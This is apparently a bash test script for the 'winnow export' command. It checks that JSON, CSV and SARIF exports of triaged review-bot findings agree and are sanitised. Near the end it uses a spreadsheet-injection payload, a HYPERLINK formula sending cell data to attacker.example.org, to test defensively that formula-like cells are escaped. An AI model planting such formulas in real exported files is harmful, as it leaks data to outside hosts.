#!/usr/bin/env bash
# winnow export on the demo mailbox with the known verdicts of
# tests/lib/stats-fixture.sh: every finding once, with its verdict, note
# and forwarding; CSV read back by Python's csv module equals the JSON
# records, hostile fields included; every SARIF log validates against
# the SARIF 2.1.0 schema (tests/schema) and says what the verdicts say;
# and the counts agree with `winnow stats` and with notmuch.
. "$WN_TOP_SRCDIR/tests/lib/env.sh"
. "$WN_TOP_SRCDIR/tests/lib/stats-fixture.sh"
wn_world
export LC_ALL=C.UTF-8
check "fixture verdicts written" wn_stats_fixture
# Why a false positive was wrong.
"$WINNOW" mark --reason=handled-elsewhere "$WN_FX_A2" 1 fp

json=$WN_WORLD/export.json
csv=$WN_WORLD/export.csv
sarif=$WN_WORLD/export.sarif
schema=$WN_TOP_SRCDIR/tests/schema/sarif-2.1.0.json
validate() { /usr/bin/python3 "$WN_TOP_SRCDIR/tests/lib/validate-sarif.py" "$schema" "$@"; }

"$WINNOW" export > "$json"
expect_eq "export exits 0 (JSON by default)" 0 $?
expect_eq "every finding once" 17 "$(jq length "$json")"
check "records: the same keys, in the same order, for every finding" jq -e \
	'map(keys_unsorted) | unique == [["review","bot","review_date","patch","patch_subject","author","list","attribution","model","finding","fingerprint","severity","preexisting_claim","file","line","function","about_commit_message","summary","verdict","note","reason","forwarded"]]' "$json"
expect_eq "verdicts as the fixture gave them" '{"false-positive":4,"pre-existing":1,"untriaged":9,"valid":3}' \
	"$(jq -c 'group_by(.verdict) | map({(.[0].verdict): length}) | add' "$json")"
a1() { jq -c --arg id "$WN_FX_A1" ".[] | select(.review == \$id and .finding == $1) | $2" "$json"; }
expect_eq "A1.1: its patch, author, list, model, claim, location" \
	'["sashiko","[PATCH v2 1/3] frobnic: take the device lock in frobnic_remove()","Jörg Beispiel <joerg.beispiel@example.org>","linux-frobnic.lists.example.org","model","claude-opus-4-5","medium",false,"drivers/misc/frobnic/core.c","false-positive"]' \
	"$(a1 1 '[.bot, .patch_subject, .author, .list, .attribution, .model, .severity, .preexisting_claim, .file, .verdict]')"
# The note: CR, the escape sequence and the bell gone, the bytes that
# are not UTF-8 each a U+FFFD; the rest kept, newline and tab included.
expect_eq "hostile note sanitised, the rest kept" \
	"$(printf '"seen, \\"fixed\\" in v3\\nsee the lock\\tnow red bytes:\xef\xbf\xbd\xef\xbf\xbd end"')" "$(a1 1 .note)"
expect_eq "forwarded as the property says" '"2026-11-05T10:00:00Z <fwd@example.org>"' "$(a1 2 .forwarded)"
expect_eq "not forwarded: null" 'null' "$(a1 1 .forwarded)"
check "no escape character anywhere" bash -c '! grep -q $'"'"'\x1b'"'"' "$1"' _ "$json"

# CSV: RFC 4180, the same records.
"$WINNOW" export --format=csv > "$csv"
expect_eq "export --format=csv exits 0" 0 $?
check "CSV read back by Python equals the JSON records" /usr/bin/python3 - "$csv" "$json" <<'PY'
import csv, json, sys
def cell(v):
    return "" if v is None else "true" if v is True else "false" if v is False else str(v)
with open(sys.argv[1], newline="", encoding="utf-8") as f:
    reader = csv.reader(f, strict=True)
    header = next(reader)
    rows = list(reader)
recs = json.load(open(sys.argv[2], encoding="utf-8"))
want = [[cell(r[k]) for k in header] for r in recs]
ok = header == list(recs[0].keys()) and rows == want
# The hostile note made the trip: comma, quotes, newline, tab, U+FFFD.
notes = [r[header.index("note")] for r in rows if r[header.index("note")]]
ok = ok and notes == ['seen, "fixed" in v3\nsee the lock\tnow red bytes:\ufffd\ufffd end']
ok = ok and not any(ch in "".join(map("".join, rows)) for ch in "\r\x1b\x07")
sys.exit(0 if ok else 1)
PY
check "CSV records end in CRLF" bash -c '[ "$(grep -c $'"'"'\r$'"'"' "$1")" -eq 18 ]' _ "$csv"

# SARIF 2.1.0.
"$WINNOW" export --format=sarif > "$sarif"
expect_eq "export --format=sarif exits 0" 0 $?
check "SARIF validates against the 2.1.0 schema" validate "$sarif"
expect_eq "one run per bot, in the bot table's order, each with its findings" \
	'[["sashiko",13],["bpf-ci",2],["lkp",2]]' \
	"$(jq -c '[.runs[] | [.tool.driver.name, (.results | length)]]' "$sarif")"
res() { jq -c --arg id "$1" --argjson n "$2" ".runs[].results[] | select(.properties.review == \$id and .properties.finding == \$n) | $3" "$sarif"; }
expect_eq "false positive: suppressed, external, accepted, the note as justification" \
	"$(jq -c '[{kind:"external",status:"accepted",justification:.}]' <<<"$(a1 1 .note)")" \
	"$(res "$WN_FX_A1" 1 .suppressions)"
expect_eq "false positive with a reason: it is the justification, its name a property" \
	'[{"kind":"external","status":"accepted","justification":"handled-elsewhere","properties":{"reason":"handled-elsewhere"}}]' \
	"$(res "$WN_FX_A2" 1 .suppressions)"
expect_eq "the record carries the reason" '"handled-elsewhere"' "$(res "$WN_FX_A2" 1 .properties.reason)"
expect_eq "pre-existing: baseline unchanged, not suppressed" '["unchanged",null]' \
	"$(res "$WN_FX_A2" 3 '[.baselineState, .suppressions]')"
expect_eq "valid: baseline new" '["new",null]' "$(res "$WN_FX_A1" 2 '[.baselineState, .suppressions]')"
expect_eq "untriaged: neither" '[null,null,"untriaged"]' \
	"$(res "$WN_FX_A3" 2 '[.baselineState, .suppressions, .properties.verdict]')"
expect_eq "level from severity: high error, medium warning, low note" '["error","warning","note"]' \
	"$(jq -c --arg id "$WN_FX_A2" '[.runs[].results[] | select(.properties.review == $id) | .level] | [.[0], .[2], .[1]]' "$sarif")"
expect_eq "each result names its rule: the bot and the severity" '["sashiko/high","sashiko/low","sashiko/medium"]' \
	"$(jq -c --arg id "$WN_FX_A2" '[.runs[].results[] | select(.properties.review == $id) | .ruleId] | [.[0], .[1], .[2]]' "$sarif")"
expect_eq "BPF CI's rule, without a severity" '["bpf-ci/finding","bpf-ci/finding"]' \
	"$(jq -c '[.runs[] | select(.tool.driver.name == "bpf-ci") | .results[].ruleId]' "$sarif")"
expect_eq "every result's ruleIndex finds its rule in its run's driver" '[]' \
	"$(jq -c '[.runs[] | .tool.driver.rules as $r | .results[] | select($r[.ruleIndex].id != .ruleId)]' "$sarif")"
expect_eq "a rule's default level is its results' level" '[]' \
	"$(jq -c '[.runs[] | .tool.driver.rules as $r | .results[] | select($r[.ruleIndex].defaultConfiguration.level != .level)]' "$sarif")"
expect_eq "BPF CI gives no severity: warning" '["warning","warning"]' \
	"$(jq -c '[.runs[] | select(.tool.driver.name == "bpf-ci") | .results[].level]' "$sarif")"
expect_eq "partial fingerprint is the finding's" \
	"$(a1 1 .fingerprint)" "$(res "$WN_FX_A1" 1 '.partialFingerprints["winnowFingerprint/v1"]')"
expect_eq "location: file, line, function" \
	'{"uri":"drivers/misc/frobnic/core.c","line":79,"function":"frobnic_remove"}' \
	"$(res "$WN_FX_A2" 1 '.locations[0] | {uri: .physicalLocation.artifactLocation.uri, line: .physicalLocation.region.startLine, function: .logicalLocations[0].name}')"
expect_eq "a finding about the commit message (A2.2) has no file location" '[1,null]' \
	"$(jq -c '[.runs[].results[] | select(.properties.about_commit_message)] | [length, .[0].locations]' "$sarif")"
expect_eq "every result carries the finding's export record as its properties" \
	"$(jq -c 'sort_by(.review, .finding)' "$json")" \
	"$(jq -c '[.runs[].results[].properties] | sort_by(.review, .finding)' "$sarif")"
# A reason beside a note: both are the justification.  (The note is
# taken out again for the CSV checks below.)
"$WINNOW" mark --reason=duplicate --note "as A1 #1" "$WN_FX_A2" 2 fp
"$WINNOW" export --format=sarif > "$WN_WORLD/why.sarif"
check "that SARIF validates too" validate "$WN_WORLD/why.sarif"
expect_eq "with a reason and a note: both as the justification" \
	'[{"kind":"external","status":"accepted","justification":"duplicate: as A1 #1","properties":{"reason":"duplicate"}}]' \
	"$(sarif=$WN_WORLD/why.sarif res "$WN_FX_A2" 2 .suppressions)"
"$WINNOW" mark --note= "$WN_FX_A2" 2 fp
"$WINNOW" export --format=sarif tag:no-such-tag > "$WN_WORLD/empty.sarif"
expect_eq "nothing matched: no runs" '[]' "$(jq -c .runs "$WN_WORLD/empty.sarif")"
check "the empty log validates too" validate "$WN_WORLD/empty.sarif"
"$WINNOW" export --format=sarif "id:$WN_FX_A1" > "$WN_WORLD/one.sarif"
check "a one-review log validates" validate "$WN_WORLD/one.sarif"
# The validator is no rubber stamp: a result without a message fails.
jq 'del(.runs[0].results[0].message)' "$sarif" > "$WN_WORLD/broken.sarif"
validate "$WN_WORLD/broken.sarif" >/dev/null
expect_eq "the validator rejects a broken log" 1 $?

# Export, stats and notmuch tell the same story.
expect_eq "false positives: export = stats" \
	"$("$WINNOW" stats --format=json | jq '.[] | select(.total) | ."false-positive"')" \
	"$(jq '[.[] | select(.verdict == "false-positive")] | length' "$json")"
expect_eq "false positives: SARIF suppressions = export" \
	"$(jq '[.[] | select(.verdict == "false-positive")] | length' "$json")" \
	"$(jq '[.runs[].results[] | select(.suppressions)] | length' "$sarif")"
expect_eq "reviews with a false positive: export = notmuch search" \
	"$(notmuch search --output=messages tag:winnow/false-positive | wc -l)" \
	"$(jq '[.[] | select(.verdict == "false-positive") | .review] | unique | length' "$json")"

# The command line contract.
"$WINNOW" export --help > "$WN_WORLD/help"
expect_eq "--help exits 0" 0 $?
check "--help names the formats" grep -q 'json|csv|sarif' "$WN_WORLD/help"
"$WINNOW" export --format=text 2> "$WN_WORLD/err"; expect_eq "unknown format exits 1" 1 $?
check "unknown format said" grep -q "unknown format 'text'" "$WN_WORLD/err"
NOTMUCH_CONFIG=$WN_WORLD/nonexistent "$WINNOW" export 2>/dev/null; expect_eq "no database exits 2" 2 $?

# Cells a spreadsheet would evaluate: text starting
# with = + - @ or a tab gets a leading ', numbers winnow prints do not.
formula='=HYPERLINK("http://attacker.example.org/?"&A1,"x")'
"$WINNOW" mark "$WN_FX_A3" 1 valid --note "$formula" >/dev/null &&
"$WINNOW" mark "$WN_FX_A3" 2 valid --note "-2+3" >/dev/null &&
"$WINNOW" mark "$WN_FX_C1" 1 valid --note "@SUM(A1:A2)" >/dev/null &&
"$WINNOW" mark "$WN_FX_A2" 1 false-positive --note "$(printf '\t+cmd')" >/dev/null
expect_eq "notes that look like formulas written" 0 $?
"$WINNOW" export --format=csv > "$WN_WORLD/formula.csv"
expect_eq "export --format=csv exits 0" 0 $?
check "CSV cells starting with = + - @ or a tab begin with '" /usr/bin/python3 - \
	"$WN_WORLD/formula.csv" "$formula" <<'PY'
import csv, sys
with open(sys.argv[1], newline="", encoding="utf-8") as f:
    rows = list(csv.reader(f, strict=True))
note = rows[0].index("note")
line = rows[0].index("line")
notes = sorted(r[note] for r in rows[1:] if r[note] and not r[note].startswith("seen"))
want = sorted(["'" + sys.argv[2], "'-2+3", "'@SUM(A1:A2)", "'\t+cmd"])
ok = notes == want
# No cell of the file, header included, starts a formula any more.
ok = ok and not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for r in rows for c in r)
# Numbers winnow formats stay numbers.
ok = ok and all(r[line] == "" or r[line].isdigit() for r in rows[1:])
if not ok:
    print(notes, file=sys.stderr)
sys.exit(0 if ok else 1)
PY
"$WINNOW" stats --format=csv --by=bot > "$WN_WORLD/stats.csv"
expect_eq "stats --format=csv exits 0" 0 $?
check "stats CSV: no cell starts a formula" /usr/bin/python3 -c '
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8"), strict=True))
sys.exit(0 if len(rows) > 2 and not any(c[:1] in "=+-@\t\r" and c for r in rows for c in r) else 1)' \
	"$WN_WORLD/stats.csv"

# A1.1's note, stored by another tool, is not UTF-8: marking the finding
# again (here: giving its false positive a reason) must still work, the
# old note kept for undo as it would be shown.
"$WINNOW" mark --reason=style "$WN_FX_A1" 1 fp > /dev/null 2> "$WN_WORLD/mark.err"
expect_eq "a finding whose old note is not UTF-8 can be marked" "0 " "$? $(cat "$WN_WORLD/mark.err")"
"$WINNOW" undo > /dev/null 2>&1
expect_eq "and the mark undone" 0 $?
wn_done
